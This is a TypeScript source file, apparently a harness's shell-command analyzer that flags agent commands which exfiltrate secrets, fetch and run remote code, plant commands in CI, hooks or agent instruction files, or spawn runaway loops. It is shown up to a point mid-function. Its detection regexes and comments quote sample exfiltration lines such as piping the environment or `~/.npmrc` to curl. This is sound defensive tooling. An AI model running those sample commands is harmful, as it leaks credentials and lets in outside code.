import { posix } from 'node:path';
import { forEachChild, parse } from 'unbash';
import type { AndOr, Command, CommandNode, CompoundList, HereDoc, ParsedScript, PipelineNode, Redirection, Statement, SyntaxNode, Word } from 'unbash';
import type { Arg, RedirectIR, ScriptFile, ShellCommand, StdinSource, Tag } from '../types.js';
import { joinedArgs, resolveSingle, resolveWord, textArg, type VarScope } from './words.js';
import { peelWrapper, SHELLS, shellInvocation } from './wrappers.js';
import { programOf } from '../programs/registry.js';
import { fetchesFromNetwork, LineFlow, sendsToNetwork } from './dataflow.js';
import { printedSecret } from '../programs/classify.js';
import { secretVariableIn } from '../programs/secret-names.js';
import { analyzeCode, languageOf, shellQuote, type Language } from './inline-code.js';
import { interpreterInvocation } from './interpreters.js';
import { fdExecs, findExecs, gitInvocation, gitScripts, listedAll, listedBy, parallelScripts, unknownArg, xargsCommand, xargsItems } from './children.js';
import { basename, hasGlob, isInside, resolvePath } from '../paths.js';
import { ENV_HIDDEN_CODE, ENV_SHELL_COMMANDS, hiddenEnvValue, indirectCode, sshRemoteCommand, weakensVerification } from './indirect.js';
import { conventionalCodeFiles, loadedFiles, scriptsInCodeFile, type CodeFileKind, type LoadedFile } from './code-files.js';

export interface ShellLimits {
  /** Bytes of shell text parsed in one evaluation, nested scripts included. */
  maxBytes: number;
  /** Simple commands collected in one evaluation. */
  maxCommands: number;
  /** Nesting of `bash -c`, `eval`, `$()` and friends. */
  maxDepth: number;
  /** Estimated tokens (words and operators) parsed in one evaluation, nested scripts included; bounds parse time. */
  maxTokens: number;
  /** Syntax nodes visited in one evaluation. */
  maxNodes: number;
}

export const DEFAULT_LIMITS: ShellLimits = {
  maxBytes: 1024 * 1024,
  maxCommands: 2000,
  maxDepth: 12,
  maxTokens: 30_000,
  maxNodes: 150_000,
};

export interface ShellAnalysis {
  commands: ShellCommand[];
  /** Parse errors, with the nested script they came from. */
  errors: string[];
  /** The first limit that was hit, if any: the analysis is then incomplete. */
  limit: string | null;
  /** Why bash itself refuses the whole command line before running any of it (a quote left open), if it does. */
  refused: string | null;
  /** Files whose content was judged (read by the session), with their hash. */
  judged: ReadonlyMap<string, { sha256: string | null; note?: string; at?: number; nested?: boolean }>;
  /** Files the analysis would judge by content, not read yet. */
  wanted: string[];
  /** Scripts the line runs that were not read yet, by the index of the command that runs them (a command before it may write them). */
  unread: ReadonlyMap<string, number>;
}

interface Scope {
  cwd: string | null;
  vars: VarScope;
  /** Functions defined so far, each with the bodies it may have (several after `if`/`case` branches). */
  functions: Map<string, FunctionDef[]>;
}

/** A shell function: its body runs where it is called, not where it is defined. */
interface FunctionDef {
  body: CommandNode | CompoundList;
  /** The frame of the definition (its source text indexes the body). */
  frame: Frame;
  /** `shift`, `set` or `getopts` in the body: its positional parameters cannot be followed. */
  movesArgs: boolean;
}

/** The positional parameters a function call sets: `$1` … and `$#`. */
/** Variables that list the directories programs, modules or classes are looked up in. */
const SEARCH_PATHS: ReadonlySet<string> = new Set(['PATH', 'PYTHONPATH', 'NODE_PATH', 'PERL5LIB', 'RUBYLIB', 'CLASSPATH', 'GEM_PATH', 'PYTHONUSERBASE']);

/** A command word with glob characters in it: the program is whatever file the pattern matches (`[` alone is test). */
const GLOBBED_NAME = /[*?]|\[[^\]]*\]/;
const POSITIONAL = /^(?:[1-9]\d*|#)$/;

/** Functions the shell calls by itself (a command not found, a directory change, exit in zsh). */
const SELF_CALLED = /^(command_not_found_handler?|chpwd|precmd|preexec|periodic|zshexit|zshaddhistory|TRAP[A-Z0-9]+)$/;

interface Frame {
  depth: number;
  via: string[];
  tags: Tag[];
  /** Offsets of syntax nodes index this text. */
  source: string;
  /** What the script's own stdin is (a nested `bash -c` inherits the caller's). */
  stdin?: StdinSource;
}

interface Invocation {
  cwd: string | null;
  redirects: RedirectIR[];
  stdin: StdinSource;
  text: string;
  scope: Scope;
  frame: Frame;
  /**
   * `X=v cmd`: the command's environment. The line's own words were expanded before it applied
   * (`X=v cmd $X` passes the outer X), but code the command runs (`sh -c`, `eval`, a function) sees it.
   */
  env?: { name: string; value: Arg | null }[];
}

const DECLARATIONS = new Set(['export', 'declare', 'typeset', 'local', 'readonly']);
const CHDIR = new Set(['cd', 'pushd', 'popd', 'chdir']);
const PACKAGE_RUNNERS = /^(npx|bunx|pnpx|uvx|npm exec|npm x|pnpm dlx|pnpm exec|yarn dlx|bun x|uv tool)$/;
/** Where programs normally live; running one from anywhere else outside the workspace is flagged. */
const PROGRAM_DIRS = ['/bin', '/sbin', '/usr', '/opt', '/nix', '/snap', '/Applications', '/Library', '/home/linuxbrew', '/System'];
const HOME_PROGRAM_DIRS = [
  '.local',
  '.cargo',
  '.nvm',
  '.volta',
  '.bun',
  '.deno',
  '.pyenv',
  '.rbenv',
  '.asdf',
  '.sdkman',
  'go/bin',
  '.npm-global',
  '.fnm',
  '.rustup',
  '.ghcup',
  '.juliaup',
  'miniconda3',
  'anaconda3',
  '.conda',
  '.linuxbrew',
  '.proto',
  '.mise',
  '.nix-profile',
];

class LimitHit extends Error {}

/** Text that runs a shell or another program when some tool evaluates it. */
const RUNS_CODE =
  /\/(?:usr\/)?s?bin\/(?:sh|bash|zsh|dash)\b|\b(?:system|exec[lv]?p?e?|popen|spawn|os\.execute|callCommand|Process\.Start|Runtime\.getRuntime|IO\.popen|dlopen|LoadLibrary|eval)\s*[("'`]|CALL\s+"SYSTEM"|"(?:pre|post)?install"\s*:|`[^`]+`/;

/**
 * The command substitutions in a literal that bash may evaluate as code later: inside an array
 * subscript (`a[$(cmd)]`, evaluated whenever the text is taken as a number) or an array's elements
 * (`a=($(cmd))` given to declare). Empty for any other text.
 */
function evaluatedLater(text: string): string[] {
  if (!/\[[^\]]*(?:\$\(|`)|^[\w-]*=?\(.*(?:\$\(|`)/s.test(text)) return [];
  const out: string[] = [];
  for (let i = 0; i < text.length && out.length < 8; i++) {
    if (text[i] === '`') {
      const end = text.indexOf('`', i + 1);
      if (end === -1) break;
      out.push(text.slice(i + 1, end));
      i = end;
    } else if (text[i] === '$' && text[i + 1] === '(' && text[i + 2] !== '(') {
      let depth = 0;
      let j = i + 1;
      for (; j < text.length; j++) {
        if (text[j] === '(') depth++;
        else if (text[j] === ')' && --depth === 0) break;
      }
      out.push(text.slice(i + 2, j));
      i = j;
    }
  }
  return out;
}

/** Whether a file's text runs a program when a tool evaluates it; in JavaScript and TypeScript `…` is a template, not a command. */
function runsCode(file: string, text: string): boolean {
  // a template's text is data; the expressions in it (`${…}`) are code
  const js = /\.(?:[cm]?[jt]s|[jt]sx|vue|svelte)$/.test(file);
  return RUNS_CODE.test(js ? text.replace(/`((?:[^`\\]|\\.)*)`/g, (_, body: string) => body.match(/\$\{[^}]*\}/g)?.join(' ') ?? '""') : text);
}

/** `python -m MODULE` forms that are a CLI of their own. */
const PYTHON_MODULE_PROGRAMS: Record<string, string> = {
  awscli: 'aws',
  pip: 'pip',
  ansible: 'ansible',
  twine: 'twine',
  pytest: 'pytest',
  gcloud: 'gcloud',
  azure: 'az',
  'azure.cli': 'az',
};

/** Files of the project that run as code later: CI, builds, containers, package scripts, tests' set-up, tasks, hooks, MCP servers, and the instructions agents follow. */
const RUNS_LATER =
  /^\/(?:.*\/)?(?:\.github\/workflows\/[^/]+\.ya?ml|\.gitlab-ci\.ya?ml|\.circleci\/config\.ya?ml|azure-pipelines\.ya?ml|bitbucket-pipelines\.ya?ml|\.travis\.ya?ml|\.drone\.ya?ml|Jenkinsfile|\.buildkite\/[^/]+|(?:GNU)?[Mm]akefile|[^/]+\.mk|[Jj]ustfile|Taskfile\.ya?ml|Rakefile|[^/]*Dockerfile[^/]*|[^/]*compose[^/]*\.ya?ml|package\.json|setup\.py|setup\.cfg|pyproject\.toml|conftest\.py|noxfile\.py|tox\.ini|build\.rs|build\.gradle(?:\.kts)?|settings\.gradle(?:\.kts)?|CMakeLists\.txt|[^/]+\.cmake|composer\.json|\.pre-commit-config\.ya?ml|\.vscode\/tasks\.json|\.envrc|\.husky\/[^/_][^/]*|\.githooks\/[^/]+|\.mcp\.json|\.cursor\/mcp\.json|CLAUDE\.md|AGENTS\.md|GEMINI\.md|\.cursorrules|\.windsurfrules|\.clinerules|\.cursor\/rules\/[^/]+|\.github\/copilot-instructions\.md)$/;
/** The project's own code: it runs when the project is run, tested or imported (`src/pkg/__init__.py`, `index.js`). */
const PROJECT_CODE = /\.(?:py|pyw|js|mjs|cjs|jsx|ts|mts|cts|tsx|rb|sh|bash|zsh|pl|pm|php|lua)$/;

/** Does a file of the workspace (its path inside it) run later: a file the tooling runs, or the project's code? */
function runsLater(relative: string): boolean {
  return RUNS_LATER.test(relative) || PROJECT_CODE.test(relative);
}

/** Files the code of which is Python: what is written there is judged as Python too. */
const PYTHON_FILE = /\.pyw?$/;

/** CI workflows, and what in them hands a run more power than it had (secrets to forks' code, every permission). */
const WORKFLOW = /\/(?:\.github\/workflows\/[^/]+|\.gitlab-ci\.ya?ml|\.circleci\/config\.ya?ml|azure-pipelines\.ya?ml|bitbucket-pipelines\.ya?ml)$/;
const WEAKENS_WORKFLOW = /\bpull_request_target\b|\bwrite-all\b|\bsecrets\s*:\s*inherit\b|\bworkflow_run\b/;
/** Container files, and what in them gives a container the host (privileged, the host's root, the Docker socket). */
const CONTAINER_FILE = /\/(?:[^/]*Dockerfile[^/]*|[^/]*compose[^/]*\.ya?ml|devcontainer\.json)$/;
const WEAKENS_CONTAINER = /\bprivileged\b["']?\s*[:=]\s*["']?true|["'\s[,]\/:\/|docker\.sock|\bpid\s*:\s*["']?host|\bcap_add\b|\bSYS_ADMIN\b|--privileged/;

/** Programs that edit a file with text from their arguments, and those that edit the project's manifest without naming it. */
const PLANTERS = new Set(['sed', 'gsed', 'perl', 'yq', 'jq', 'tee', 'awk', 'gawk', 'husky']);
const MANIFEST_EDITS: Record<string, { words: string[]; file: string }> = {
  npm: { words: ['pkg', 'set-script'], file: 'package.json' },
  pnpm: { words: ['pkg'], file: 'package.json' },
  composer: { words: ['config'], file: 'composer.json' },
};
/** What a planted command may not do: fetch and run code, send data out. */
const OUTSIDE_TAGS: ReadonlySet<Tag> = new Set(['code-from-network', 'stdin-to-network', 'upload', 'secret-to-network', 'data-in-hostname']);
/** Manifests: what a package manager installs. */
const MANIFEST =
  /(?:^|\/)(?:requirements[^/]*\.(?:txt|in)|constraints[^/]*\.txt|package\.json|Cargo\.toml|go\.mod|pyproject\.toml|Pipfile|Gemfile|composer\.json|setup\.cfg|build\.gradle(?:\.kts)?|pom\.xml)$/;
/** A dependency from a URL, a repository or a fork rather than the registry. */
const DEPENDENCY_FROM_URL =
  /(?:^|[\s"'=:,])(?:github:|gitlab:|bitbucket:|git\+(?:https?|ssh|file):\/\/|git:\/\/)|\bgit\s*=\s*["']?https?:\/\/|\bgit:\s*["']https?:\/\/|@\s*(?:https?|file):\/\/|https?:\/\/\S+\.(?:tgz|tar\.gz|whl|zip|gem)\b/i;
/** Package managers whose add or install records the dependency in the manifest. */
const ADDS_DEPENDENCY = new Set(['cargo', 'poetry', 'uv', 'pnpm', 'yarn', 'bun', 'pdm', 'rye', 'hatch']);

/** Lockfiles: what a package manager installs next, with URLs and checksums. */
const LOCKFILE =
  /(?:^|\/)(?:package-lock\.json|npm-shrinkwrap\.json|yarn\.lock|pnpm-lock\.yaml|bun\.lock|poetry\.lock|uv\.lock|Pipfile\.lock|Cargo\.lock|go\.sum|composer\.lock|Gemfile\.lock|packages\.lock\.json|gradle\.lockfile|flake\.lock)$/;
const LOCKFILE_EDITORS = new Set(['sed', 'gsed', 'perl', 'yq', 'awk', 'gawk', 'ed', 'ex', 'tee', 'truncate']);

/** The lockfile a command edits by hand (named by a static word): sed/perl/yq in place, tee, or mv/cp onto it. */
function lockfileEdited(c: ShellCommand, home: string): string | null {
  if (c.cwd === null) return null;
  const words = c.argv.slice(1).filter((a) => !a.dynamic && !a.value.startsWith('-'));
  const target = c.name === 'mv' || c.name === 'cp' ? words.slice(-1) : LOCKFILE_EDITORS.has(c.name) ? words : [];
  // sed and perl edit their files only in place
  if ((c.name === 'sed' || c.name === 'gsed' || c.name === 'perl') && !c.argv.some((a) => /^-[a-zA-Z]*i/.test(a.value) || a.value.startsWith('--in-place')))
    return null;
  const hit = target.find((a) => LOCKFILE.test(a.value));
  return hit ? resolvePath(hit.value, c.cwd, home) : null;
}

/** Package managers' config files, the project's or the user's. */
const REGISTRY_CONFIG =
  /(?:^|\/)(?:\.npmrc|\.yarnrc(?:\.ya?ml)?|\.pnpmrc|\.bunfig\.toml|bunfig\.toml|pip\.conf|pip\.ini|\.pypirc|\.condarc|uv\.toml|\.gemrc|config\.toml|go\.env)$/;
/** What in them turns verification off, and the keys that name where packages come from. */
const VERIFY_OFF_TEXT =
  /\b(?:trusted-host|strict-ssl\s*[=:]\s*false|enableStrictSsl\s*:\s*false|ssl_verify\s*:\s*(?:false|no)|GOSUMDB\s*=\s*off|GONOSUMDB|GOINSECURE|insecure)\b/i;
const SOURCE_KEYS = /\b(?:registry|npmRegistryServer|index-url|extra-index-url|index|GOPROXY|replace-with|source|mirror|channels)\b/i;
/** The registries package managers use by default. */
const OFFICIAL_REGISTRIES = new Set([
  'registry.npmjs.org',
  'registry.yarnpkg.com',
  'registry.npmmirror.com',
  'pypi.org',
  'files.pythonhosted.org',
  'proxy.golang.org',
  'rubygems.org',
  'crates.io',
  'index.crates.io',
  'repo.packagist.org',
  'conda.anaconda.org',
  'repo.anaconda.com',
]);

/** Whether a package manager's config text turns verification off or names a registry other than the official ones. */
function pointsElsewhere(text: string): boolean {
  if (VERIFY_OFF_TEXT.test(text)) return true;
  if (!SOURCE_KEYS.test(text)) return false;
  const hosts = [...text.matchAll(/[a-z][a-z0-9+.-]*:\/\/(?:[^@/\s"']*@)?([^/:\s"']+)/gi)].map((m) => m[1]!.toLowerCase());
  return hosts.some((h) => !OFFICIAL_REGISTRIES.has(h));
}
/** Where a planted command may begin inside other text: a program that fetches, sends or runs code. */
const PLANTED_START = /(^|[\s/:;|&'"`({@=,])(?=(?:curl|wget|nc|ncat|socat|bash|sh|zsh|python3?|node|perl|ruby|php|env|printenv|eval|iwr|Invoke-WebRequest)\b)/g;
const MAX_PLANTED_COMMANDS = 64;

/** The run-later file a command edits with text from its arguments, or null. */
function plantTarget(c: ShellCommand, home: string, workspace: string): string | null {
  if (c.cwd === null) return null;
  const manifest = MANIFEST_EDITS[c.name];
  if (manifest && manifest.words.includes(c.argv[1]?.value ?? '')) return resolvePath(manifest.file, c.cwd, home);
  if (!PLANTERS.has(c.name)) return null;
  for (const a of c.argv.slice(1)) {
    if (a.dynamic || a.value.startsWith('-')) continue;
    const path = resolvePath(a.value, c.cwd, home);
    if (isInside(path, workspace) && runsLater(path.slice(workspace.length))) return path;
  }
  return null;
}

/**
 * The command lines a text may plant: its lines (a printf format's `\n` too) without a step's
 * prefix (`run:`, `- run:`, `script:`, `RUN`, a recipe's tab, `@` and `-`), and its quoted strings
 * (`os.system('…')`, `"command": "…"`), with sed's escapes undone.
 */
export function plantedCommands(text: string): string[] {
  const plain = text.replace(/\\([/&|#])/g, '$1').replace(/\\t/g, '\t');
  const out = new Set<string>();
  for (const line of plain.split(/\n|\\n/)) {
    const step = line
      .replace(/^\s*(?:-\s*)?(?:(?:run|script|before_script|after_script|command|cmd|entrypoint|RUN|CMD|ENTRYPOINT|sh|bash)\s*[:=]?\s*|[@-]+)?/, '')
      .replace(/^[@-]+/, '')
      .trim();
    if (step.length > 4) out.add(step);
    // every quoted string in turn (a short one too, so that the quotes pair up as they are written)
    for (const m of line.matchAll(/'([^'\n]*)'|"((?:[^"\\\n]|\\.)*)"/g)) if ((m[1] ?? m[2]!).length >= 6) out.add((m[1] ?? m[2]!).replace(/\\"/g, '"'));
    // from each program that fetches, sends or runs to the line's end, less a quote left open (`sh "curl … | sh"}}`)
    for (const m of line.matchAll(PLANTED_START)) {
      let rest = line.slice(m.index + m[1]!.length);
      for (const q of ['"', "'", '`']) if ((rest.split(q).length - 1) % 2 === 1) rest = rest.slice(0, rest.indexOf(q));
      out.add(rest.trim());
      // and less what closes a sed substitution (`s|^RUN x|RUN x \&\& curl … https://h/d|`)
      out.add(rest.replace(/[|#]\w*\s*$/, '').trim());
    }
  }
  return [...out].filter((c) => /\s/.test(c) && c.length <= 4096);
}

/** Text written for later past this size is not read for what it plants: the line asks instead. */
const MAX_PLANTED_BYTES = 64 * 1024;

/**
 * Could a planted command line reach out, were it run: does a word of it name a network client, a
 * shell or an interpreter, or eval? Only those are judged (runsOutside asks for nothing else), so
 * ordinary lines of code cost a split and a look-up each.
 */
function mayReachOut(line: string): boolean {
  return line.split(/[\s|;&()`$<>{}'"=]+/).some((w) => {
    const name = basename(w);
    const decl = name ? programOf(name) : undefined;
    return (
      decl?.network !== undefined ||
      decl?.download !== undefined ||
      decl?.transfer !== undefined ||
      SHELLS.has(name) ||
      languageOf(name) !== null ||
      name === 'eval'
    );
  });
}

/** Files in the workspace that git runs as hooks through a hook manager (husky, a hooks directory of the project's). */
const HOOK_SCRIPT = /^\/(?:\.husky\/(?!_\/)[^/]+|\.githooks\/[^/]+)$/;

/** A loop condition that never ends it: `while true`, `while :`, `while [ 1 ]`, `until false`. */
const ENDLESS_WHILE = /^(?:true|:|\[\s+1\s+\]|\(\(\s*1\s*\)\))\s*;?\s*$/;
const ENDLESS_UNTIL = /^false\s*;?\s*$/;
/** A body that only spins: nothing but `:` or `true`. */
const SPINS = /^(?:(?::|true)\s*[;\n]?\s*)+$/;

/**
 * A loop without end that keeps starting background jobs (`while :; do sleep 9 & done`) or only
 * spins (`while :; do :; done`), with nothing in it that leaves it (break, exit, return): it fills
 * the process table or holds a core for ever, as a fork bomb does.
 */
function endlessAndRunaway(node: Extract<CommandNode, { type: 'While' }>, source: string): boolean {
  const clause = source.slice(node.clause.pos, node.clause.end).trim();
  if (!(node.kind === 'until' ? ENDLESS_UNTIL : ENDLESS_WHILE).test(clause)) return false;
  const body = source.slice(node.body.pos, node.body.end);
  if (/\b(?:break|exit|return)\b/.test(body)) return false;
  return SPINS.test(body.trim()) || node.body.commands.some((s) => s.background === true);
}

/** Rounds past which a loop that starts a job in each is taken as a runaway (`for i in $(seq 100000); do (sleep 1000 &); done`). */
const MANY_ROUNDS = 1000;

/** How many rounds a `for` list spells out with `$(seq …)` or `{a..b}`; 0 when it does not. */
function spelledRounds(words: string): number {
  const seq = /\$\(\s*seq\s+(?:(-?\d{1,12})\s+)?(?:(-?\d{1,12})\s+)?(-?\d{1,12})\s*\)/.exec(words);
  if (seq) {
    const first = seq[1] !== undefined ? Number(seq[1]) : 1;
    const step = seq[2] !== undefined ? Math.abs(Number(seq[2])) || 1 : 1;
    return Math.floor(Math.abs(Number(seq[3]) - first) / step) + 1;
  }
  const brace = /\{(-?\d{1,12})\.\.(-?\d{1,12})(?:\.\.(-?\d{1,12}))?\}/.exec(words);
  return brace ? Math.floor(Math.abs(Number(brace[2]) - Number(brace[1])) / (Math.abs(Number(brace[3] ?? 1)) || 1)) + 1 : 0;
}

/** Does the list start a background job, itself or in a subshell or group of it? */
function startsJobs(list: CompoundList): boolean {
  return list.commands.some(
    (s) =>
      s.background === true ||
      ((s.command.type === 'Subshell' || s.command.type === 'BraceGroup') && startsJobs(s.command.body)) ||
      (s.command.type === 'Pipeline' && s.command.commands.some((c) => (c.type === 'Subshell' || c.type === 'BraceGroup') && startsJobs(c.body))),
  );
}

/** git commands that print a path (`rev-parse --show-toplevel`) or one ref's name. */
const GIT_PRINTS_REF =
  /^(?:rev-parse\s+(?:--show-toplevel|--abbrev-ref\s+\S+|--short\s+\S+|HEAD)|describe(?:\s+--\S+)*|branch\s+--show-current|symbolic-ref\s+--short\s+\S+)\s*$/;

/** Commands whose output is a path or text harness can work out (see printedValue). */
const PURE = new Set(['cd', 'pwd', 'dirname', 'basename', 'realpath', 'readlink', 'echo', 'printf', 'git']);

/** Clients that read statements from stdin: a file given there is judged by its content. */
const STATEMENT_CLIENTS = new Set([
  'psql',
  'mysql',
  'mariadb',
  'sqlite3',
  'sqlcmd',
  'mongosh',
  'mongo',
  'redis-cli',
  'cqlsh',
  'clickhouse-client',
  'clickhouse',
  'duckdb',
  'cockroach',
  'influx',
  'snowsql',
  'bq',
  'trino',
  'presto',
  'usql',
]);

/** A package given by URL or repository rather than by name (`github:u/x`, `git+https://…`, a tarball URL). */
const REMOTE_PACKAGE = /^(?:https?:\/\/|git\+|git:\/\/|git@|github:|gitlab:|bitbucket:|gist:)|\.git(?:#.*)?$|\/(?:tarball|archive)\//i;

/** Loops over at most this many known words are followed word by word; longer ones with the variable unknown. */
const MAX_LOOP_VALUES = 8;

class Analyzer {
  readonly commands: ShellCommand[] = [];
  readonly errors: string[] = [];
  refused: string | null = null;
  limit: string | null = null;
  private bytes = 0;
  private tokens = 0;
  private nodes = 0;
  /** What this command line did that its later commands depend on (files written and downloaded, substitutions, git aliases and remotes). */
  private readonly flow: LineFlow;
  /** Code that runs later (trap bodies), analyzed once more when the script that set it ends. */
  private readonly deferred: { body: string; words: [string, FunctionDef[] | undefined][]; frame: Omit<Frame, 'source'> }[] = [];

  /** Files whose content this analysis judged (path → hash, or why it could not). */
  readonly judged = new Map<string, { sha256: string | null; note?: string; at?: number; nested?: boolean }>();
  /** Files this analysis would judge by content if the session read them. */
  readonly wanted = new Set<string>();
  readonly unread = new Map<string, number>();

  constructor(
    private readonly home: string,
    private readonly workspace: string,
    private readonly limits: ShellLimits,
    private readonly files: ReadonlyMap<string, ScriptFile> = new Map(),
    /** The agent's environment as harness knows it (HOME, TMPDIR): what `env -S` expands. */
    private readonly agentEnv: ReadonlyMap<string, string> = new Map([['HOME', home]]),
  ) {
    this.flow = new LineFlow(home);
  }

  private hit(what: string): never {
    this.limit ??= what;
    throw new LimitHit(what);
  }

  private tick(): void {
    if (++this.nodes > this.limits.maxNodes) this.hit(`more than ${this.limits.maxNodes} syntax nodes`);
  }

  /**
   * What this line leaves in files for later, judged now: it runs at the person's next commit, build
   * or install, when nothing of harness's sees it. Text written into a file git runs as a hook
   * through a hook manager (`.husky/pre-push`) is judged as the commands it holds; commands planted
   * in other files that run later, a lockfile edited by hand, a dependency from a URL, a package
   * manager sent elsewhere, a workflow or a container given more power are noted (see below).
   */
  judgeFilesForLater(): void {
    for (const [path, content] of this.flow.written) {
      if (!content || !isInside(path, this.workspace) || !HOOK_SCRIPT.test(path.slice(this.workspace.length))) continue;
      const via = `written to ${path.slice(this.workspace.length + 1)}, run by git`;
      this.script(content.value, { cwd: this.workspace, vars: new Map([['HOME', this.home]]), functions: new Map() }, { depth: 1, via: [via], tags: [] });
    }
    // a lockfile written by hand: by a redirect, an editor of files, or a file moved or copied over it
    const lockfile =
      [...this.flow.written.keys()].find((p) => LOCKFILE.test(p)) ?? this.commands.map((c) => lockfileEdited(c, this.home)).find((p) => p !== null);
    if (lockfile) this.noteForLater('lockfile-edit', `edits ${lockfile}`, lockfile);
    // a dependency taken from a URL or a repository instead of the registry, written into a manifest
    const dependency = this.dependencyFromUrl();
    if (dependency) this.noteForLater('dependency-from-url', `written to ${dependency.file}`, dependency.text);
    // a package manager's config written with another registry or with verification off
    for (const [path, content] of this.flow.written)
      if (content && REGISTRY_CONFIG.test(path) && pointsElsewhere(content.value)) this.noteForLater('verification-off', `written to ${path}`, content.value);
    this.plantedCode();
  }

  /** A synthetic command that carries what a file written for later holds, for the rules (`"tag"`). */
  private noteForLater(tag: Tag, via: string, text: string): void {
    this.push({ argv: [], name: '#later', cwd: this.workspace, redirects: [], stdin: { kind: 'none' }, via: [via], text, depth: 1, tags: [tag] });
  }

  /**
   * Commands this line plants in a file of the project that runs later as code (a CI workflow, a
   * Makefile, a Dockerfile, package scripts, setup.py, a test's conftest, an editor task): the text
   * written there by a redirect, or handed to the program that edits the file (sed's replacement,
   * jq's or yq's filter, `npm pkg set`, `composer config`). A command in it that fetches and runs
   * code or sends data out is `planted-code`; an ordinary step (`npm test`, `apt-get install`) is
   * not. So is a workflow handed more power or a container file given the host.
   */
  private plantedCode(): void {
    const texts: { file: string; text: string }[] = [];
    for (const [path, content] of this.flow.written)
      if (content && isInside(path, this.workspace) && runsLater(path.slice(this.workspace.length))) texts.push({ file: path, text: content.value });
    for (const c of this.commands) {
      const target = plantTarget(c, this.home, this.workspace);
      if (target)
        for (const a of c.argv.slice(1)) if (!a.dynamic && !a.value.startsWith('-') && a.value.length > 4) texts.push({ file: target, text: a.value });
    }
    const shown = (file: string): string => file.slice(this.workspace.length + 1);
    // a workflow given more power, or a container the host's: no command in it, the same harm
    const weakened = texts.find(
      ({ file, text }) => (WORKFLOW.test(file) && WEAKENS_WORKFLOW.test(text)) || (CONTAINER_FILE.test(file) && WEAKENS_CONTAINER.test(text)),
    );
    if (weakened) return this.noteForLater('planted-code', `weakens ${shown(weakened.file)}`, weakened.text);
    // what harness will not read in full asks rather than passing unread (a padded conftest.py)
    if (texts.reduce((n, t) => n + t.text.length, 0) > MAX_PLANTED_BYTES)
      return this.noteForLater(
        'planted-code',
        `${shown(texts[0]!.file)} runs later; what is written to it is too large to judge`,
        texts[0]!.text.slice(0, 200),
      );
    const candidates: { file: string; line: string }[] = [];
    for (const { file, text } of texts) {
      // Python that sends the environment or a file out, or runs what it fetched (`urlopen(…, data=repr(os.environ))`)
      const python = PYTHON_FILE.test(file) ? analyzeCode('python', text) : null;
      if (python?.uploads || python?.fromNetwork) return this.noteForLater('planted-code', `planted in ${shown(file)}, which runs it later`, text);
      for (const line of plantedCommands(text)) if (mayReachOut(line)) candidates.push({ file, line });
    }
    if (candidates.length > MAX_PLANTED_COMMANDS)
      return this.noteForLater('planted-code', `${candidates.length} commands planted in files that run later: too many to judge`, candidates[0]!.line);
    for (const { file, line } of candidates)
      if (this.runsOutside(line)) return this.noteForLater('planted-code', `planted in ${shown(file)}, which runs it later`, line);
  }

  /** A manifest this line writes or edits with a dependency from a URL or a repository (`npm pkg set dependencies.x=github:…`, `go mod edit -replace`). */
  private dependencyFromUrl(): { file: string; text: string } | null {
    for (const [path, content] of this.flow.written)
      if (content && MANIFEST.test(path) && DEPENDENCY_FROM_URL.test(content.value)) return { file: path, text: content.value };
    for (const c of this.commands) {
      if (c.cwd === null) continue;
      const words = c.argv.slice(1).filter((a) => !a.dynamic);
      // `go mod edit -replace old=new` with a module (not a directory) as the new one
      if (c.name === 'go' && words[0]?.value === 'mod' && words[1]?.value === 'edit') {
        const replace = words
          .map((a, i) => (a.value === '-replace' ? words[i + 1]?.value : a.value.startsWith('-replace=') ? a.value.slice(9) : undefined))
          .find((v) => v !== undefined);
        const to = replace?.split('=')[1];
        if (to && !/^[./~]/.test(to)) return { file: resolvePath('go.mod', c.cwd, this.home), text: replace };
        continue;
      }
      const manifest = MANIFEST_EDITS[c.name];
      const file =
        manifest && manifest.words.includes(words[0]?.value ?? '')
          ? resolvePath(manifest.file, c.cwd, this.home)
          : PLANTERS.has(c.name)
            ? words.map((a) => resolvePath(a.value, c.cwd!, this.home)).find((p) => MANIFEST.test(p))
            : undefined;
      // sed's escapes undone (`https:\/\/…`)
      const text = file ? words.map((a) => a.value.replace(/\\([/&|#])/g, '$1')).find((v) => DEPENDENCY_FROM_URL.test(v)) : undefined;
      if (file && text) return { file, text };
      // `cargo add x --git URL`, `poetry add git+https://…`, `uv add`, `pnpm add github:…`
      if (
        ADDS_DEPENDENCY.has(c.name) &&
        ['add', 'install', 'i'].includes(words[0]?.value ?? '') &&
        words.some((a) => DEPENDENCY_FROM_URL.test(a.value) || a.value === '--git')
      )
        return { file: c.name, text: words.map((a) => a.value).join(' ') };
    }
    return null;
  }

  /** Whether a command line, were it run, would fetch and run code or send data out (judged apart: nothing of it runs now). */
  private runsOutside(line: string): boolean {
    const apart = new Analyzer(this.home, this.workspace, this.limits);
    try {
      apart.script(line, { cwd: this.workspace, vars: new Map([['HOME', this.home]]), functions: new Map() }, { depth: 0, via: [], tags: [] });
    } catch {
      return false;
    }
    // a network client fed by a pipe or a file may send what it is fed (`env | curl --data-binary @- …`),
    // and one given computed words may send what they hold (`curl -d "$(cat ~/.npmrc)" …`)
    return apart.commands.some(
      (c) => c.tags.some((t) => OUTSIDE_TAGS.has(t)) || ((c.stdin.kind !== 'none' || c.argv.some((a) => a.dynamic)) && fetchesFromNetwork(c)),
    );
  }

  /** Parses and walks one shell text. */
  script(text: string, scope: Scope, frame: Omit<Frame, 'source'>): void {
    if (frame.depth > this.limits.maxDepth) this.hit(`nesting deeper than ${this.limits.maxDepth}`);
    this.bytes += text.length;
    if (this.bytes > this.limits.maxBytes) this.hit(`more than ${this.limits.maxBytes} bytes of shell text`);
    this.tokens += estimateTokens(text, this.limits.maxTokens - this.tokens);
    if (this.tokens > this.limits.maxTokens) this.hit(`more than ${this.limits.maxTokens} words and operators`);
    const ast = parse(text);
    const mark = this.deferred.length;
    this.parsed(ast, scope, { ...frame, source: ast.source ?? text });
    // Traps run at exit: by then the script may have defined the functions they call.
    const pending = this.deferred.length > mark ? this.deferred.splice(mark) : [];
    for (const d of pending) {
      // analyzed again, in the state at the end, when a word of it names a function (re)defined since
      if (d.words.some(([name, defs]) => scope.functions.has(name) && scope.functions.get(name) !== defs)) this.script(d.body, fork(scope), d.frame);
    }
  }

  private parsed(ast: ParsedScript, scope: Scope, frame: Frame): ShellCommand[] {
    // a part of a script on disk that does not parse fails when bash reaches it too: not a reason to ask
    // (what harness cannot read there stands, as the whole script did before it was read)
    const file = this.inFile[this.inFile.length - 1];
    const onDisk = file !== undefined && judgedOnDisk(this.judged, file);
    const errors = ast.errors ?? [];
    if (frame.depth === 0 && this.inFile.length === 0 && refusedByBash(frame.source, errors)) this.refused = errors[0]!.message;
